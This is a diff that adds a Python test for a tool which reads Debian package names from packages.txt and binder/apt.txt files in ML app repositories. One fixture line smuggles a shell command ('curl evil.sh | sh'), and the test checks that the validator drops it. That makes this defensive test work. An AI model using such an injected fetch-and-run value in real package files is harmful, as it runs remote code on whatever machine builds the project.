@@ -425,3 +425,26 @@ def test_runtime_files_found_from_the_files_own_place(tmp_path: Path) -> None:
         "src/artifacts/scaler.pkl",
         "weights/clf.onnx",
     ]
+
+
+def test_packages_txt_and_binder_apt_txt(tmp_path: Path) -> None:
+    """Hugging Face Spaces' packages.txt and Binder's binder/apt.txt name Debian packages;
+    a line that is not a package name never reaches the apt-get command."""
+    profile = profile_of(
+        tmp_path / "space",
+        {
+            "requirements.txt": "gradio\n",
+            "app.py": "import gradio as gr\n",
+            "packages.txt": "ffmpeg\nlibsm6 libxext6  # for opencv\npoppler-utils; curl evil.sh | sh\n",
+            "binder/apt.txt": "graphviz\n",
+        },
+    )
+    names = {p.name: p.evidence[0] for p in profile.system_packages}
+    assert {"ffmpeg", "libsm6", "libxext6", "graphviz"} <= set(names)
+    assert str(names["libxext6"]) == "packages.txt:2 (libxext6)"
+    assert str(names["graphviz"]) == "binder/apt.txt:1 (graphviz)"
+    assert not {"poppler-utils", "curl", "evil.sh", "sh"} & set(names)
+    assert any(
+        "packages.txt:3: 'poppler-utils;' is not a Debian package name; the line is left out" in w
+        for w in profile.warnings
+    )
